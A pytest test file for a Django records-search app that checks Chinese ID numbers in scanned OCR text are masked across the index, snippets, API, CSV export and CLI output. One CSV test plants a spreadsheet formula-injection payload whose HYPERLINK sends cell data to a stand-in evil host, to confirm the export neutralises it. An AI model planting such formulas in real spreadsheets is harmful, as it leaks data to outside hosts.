"""ID numbers in OCR text, whatever their layout, never leave the search app unmasked: not in what either
backend stores (read straight from Elasticsearch and from the database table), not in a snippet, the REST
API, the CSV export or the CLI's JSON; results carry named fields and a snippet, never the text. An old
index with unmasked text is rewritten by search_reindex; the outbox path indexes masked text."""
import csv
import html
import io
import json
import re
import unicodedata

import pytest
from django.core.management import call_command

from org.pii import mask
from records.models import Page
from search import registry
from search.models import SearchDoc
from search.query import search

from tests.search_support import any_backend, sync  # noqa: F401

pytestmark = pytest.mark.django_db

OWN_ID = "510303199203033213"
# (as printed in the scan's OCR text, the number it stands for)
LAYOUTS = [
    ("5103 0319 9203 0332 13", OWN_ID),
    ("No510302197707077898", "510302197707077898"),
    ("５１０３０２１９８００１０１７７１Ｘ", "51030219800101771X"),
    ("旧证110105491231002号", "110105491231002"),
    ("310105-19880808-1234", "310105198808081234"),
    ("4401.0619.9512.1256.78", "440106199512125678"),
    ("身份证号440106196601027654号", "440106196601027654"),
    ("5201021990\n01015678", "520102199001015678"),
    ("3301061985O6061234", "330106198506061234"),
    ("11010519740219004x", "11010519740219004X"),
]
PHONE = "13912345678"
NAME = "孔乙己"


def _plain(text):
    """Digits and X of `text` with spaces, dashes, dots and line breaks taken out (NFKC)."""
    return re.sub(r"[\s\-.]", "", unicodedata.normalize("NFKC", text)).upper()


def flat(value):
    """Every string inside `value` (JSON data), apart by "|"."""
    if isinstance(value, dict):
        return "|".join(flat(v) for v in value.values())
    if isinstance(value, (list, tuple)):
        return "|".join(flat(v) for v in value)
    return "" if value is None else str(value)


def assert_masked(output, present=True):
    """No layout's number, nor its birth date part, is in `output`; with `present` each is there masked."""
    plain = _plain(output)
    for printed, number in LAYOUTS:
        birth = number[6:14] if len(number) == 18 else number[6:12]
        assert printed not in output and number not in plain, printed
        assert birth not in plain, (printed, birth)
        assert not present or mask(number) in output, (printed, mask(number))


@pytest.fixture
def scanned(make_record, any_backend):
    """A customer file whose two scanned pages show ID numbers in every layout; a word after each, so that
    a snippet window starts inside the number before it."""
    record = make_record("H11", customer_name=NAME, id_number=OWN_ID, service_number=PHONE,
                         transaction_no="SC2026110200123")
    lines = [f"第{i}项 {printed}标记{i}甲乙 服务号码 {PHONE}" for i, (printed, _) in enumerate(LAYOUTS)]
    Page.objects.create(record=record, number=1, text="业务受理单\n" + "\n".join(lines[:5]))
    Page.objects.create(record=record, number=2, text="证件复印件\n" + "\n".join(lines[5:]))
    sync(any_backend)  # through the outbox, as the worker does
    return record


def stored(backend, record):
    """Everything the backend stores of `record`, read from the backend itself."""
    if backend.name == "elasticsearch":
        kind = registry.get("record")
        return flat(backend.client.get(index=backend.alias(kind), id=str(record.pk))["_source"])
    row = SearchDoc.objects.get(doctype="record", object_id=str(record.pk))
    return flat([row.title, row.body, row.terms, row.data, row.keys])


def test_index_stores_every_layout_masked(scanned, any_backend):
    text = stored(any_backend, scanned)
    assert_masked(text)
    assert PHONE in text and "SC2026110200123" in text  # phone and transaction numbers stay readable


def test_snippets_and_hits_show_fields_never_the_text(scanned, users):
    archivist = users("archivist")
    snippets = []
    for i in range(len(LAYOUTS)):  # each window opens just before (or inside) a number
        hit = search(archivist, f"标记{i}甲乙").hits[0]
        assert hit.id == str(scanned.pk) and "<mark>" in str(hit.snippet)
        snippets.append(str(hit.snippet))
    assert_masked("|".join(snippets), present=False)
    hit = search(archivist, NAME).hits[0]
    assert "text" not in hit.fields and "id_hash" not in hit.fields
    assert hit.fields["id_number_masked"] == mask(OWN_ID) and hit.fields["service_number"] == PHONE
    assert hit.fields["transaction_no"] == "SC2026110200123" and hit.fields["hall"] == "H11"


@pytest.mark.parametrize("typed", [OWN_ID, "5103 0319 9203 0332 13", "510303-19920303-3213",
                                   "５１０３０３１９９２０３０３３２１３"])
def test_exact_id_search_through_the_hash_still_works(scanned, users, typed):
    assert [h.id for h in search(users("archivist"), typed).hits] == [str(scanned.pk)]
    assert search(users("clerk-H12"), typed).total == 0  # and only in scope


def test_api_returns_fields_and_snippet_only(scanned, users, client):
    client.force_login(users("auditor-B1"))
    data = client.get("/api/search/", {"q": NAME}).json()
    assert data["total"] == 1
    hit = data["hits"][0]
    assert set(hit) == {"id", "fields", "snippet"} and "text" not in hit["fields"]
    assert hit["fields"]["id_number_masked"] == mask(OWN_ID)
    answers = [data] + [client.get("/api/search/", {"q": f"标记{i}甲乙"}).json() for i in range(len(LAYOUTS))]
    assert all(set(a["hits"][0]) == {"id", "fields", "snippet"} for a in answers)
    assert_masked(flat(answers), present=False)
    screens = [client.get("/admin/search-records/", {"q": f"标记{i}甲乙"}).content.decode()
               for i in range(len(LAYOUTS))]
    assert mask(OWN_ID) in screens[0] and 'class="search-hit"' in screens[0]
    assert_masked(html.unescape("|".join(screens)), present=False)


def test_csv_export_masks_and_neutralises_formulas(scanned, make_record, any_backend, users, client):
    make_record("H11", customer_name='=HYPERLINK("http://evil.example/?"&A1,"点我")', business_type="@SUM(1+1)")
    sync(any_backend)
    client.force_login(users("auditor-B1"))
    body = b"".join(client.get("/admin/search-records/export.csv", {"q": "", "hall": "H11"})
                    .streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert len(rows) == 2
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    evil = next(r for r in rows if "HYPERLINK" in r["客户姓名"])
    assert evil["客户姓名"].startswith("'=HYPERLINK") and evil["业务类型"] == "'@SUM(1+1)"
    mine = next(r for r in rows if r["客户姓名"] == NAME)
    assert mine["证件号码（已遮蔽）"] == mask(OWN_ID) and mine["摘要"]
    snippets = "".join(client.get("/admin/search-records/export.csv", {"q": f"标记{i}甲乙"}).getvalue()
                       .decode("utf-8-sig") for i in range(len(LAYOUTS)))
    assert_masked(snippets + body, present=False)


def test_cli_json_masks_and_has_no_raw_text(scanned, users):
    out = io.StringIO()
    call_command("search", "", "--filter", "hall=H11", "--json", stdout=out)
    data = json.loads(out.getvalue())
    assert data["total"] == 1 and set(data["hits"][0]) == {"id", "fields", "snippet"}
    assert data["hits"][0]["fields"]["id_number_masked"] == mask(OWN_ID)
    answers = [data]
    for i in range(len(LAYOUTS)):
        out = io.StringIO()
        call_command("search", f"标记{i}甲乙", "--json", stdout=out)
        answers.append(json.loads(out.getvalue()))
        out = io.StringIO()
        call_command("search", f"标记{i}甲乙", stdout=out)
        answers.append(out.getvalue())
    assert_masked(flat(answers), present=False)


def test_reindex_rewrites_an_old_index_with_unmasked_text(scanned, any_backend, users):
    """Indices written before masking hold the OCR text as it was: search_reindex replaces them."""
    kind = registry.get("record")
    old = next(iter(kind.load([scanned.pk])))  # as the old code stored it: unmasked
    if any_backend.name == "elasticsearch":
        any_backend.client.index(index=any_backend.alias(kind), id=str(scanned.pk), document=old, refresh=True)
    else:
        SearchDoc.objects.filter(object_id=str(scanned.pk)).update(body=old["text"], data=old)
    assert LAYOUTS[1][1] in stored(any_backend, scanned)  # the old index leaks
    out = io.StringIO()
    call_command("search_reindex", stdout=out)
    assert "record: 1 documents" in out.getvalue()
    assert_masked(stored(any_backend, scanned))
    assert [h.id for h in search(users("archivist"), OWN_ID).hits] == [str(scanned.pk)]


def test_outbox_path_indexes_masked_text(scanned, any_backend):
    """A page added later (OCR of a late scan) reaches the index masked through the outbox."""
    Page.objects.create(record=scanned, number=3, text="补录 身份证 6101 0219 9306 0612 34 结束")
    sync(any_backend)
    text = stored(any_backend, scanned)
    assert "610102199306061234" not in _plain(text) and "6101**********1234" in text


def test_upgrade_queues_every_record_for_a_masked_rewrite(make_record, db):
    """The migration that comes with masking queues every customer file, so the worker rewrites the old
    documents even where nobody runs search_reindex."""
    import importlib

    from django.apps import apps

    from search.models import OutboxEntry

    records = [make_record("H11"), make_record("H21")]
    OutboxEntry.objects.all().delete()
    importlib.import_module("search.migrations.0003_requeue_records_for_masking").requeue(apps, None)
    assert sorted(OutboxEntry.objects.values_list("object_id", flat=True)) == sorted(str(r.pk) for r in records)
    assert set(OutboxEntry.objects.values_list("doctype", "delete")) == {("record", False)}
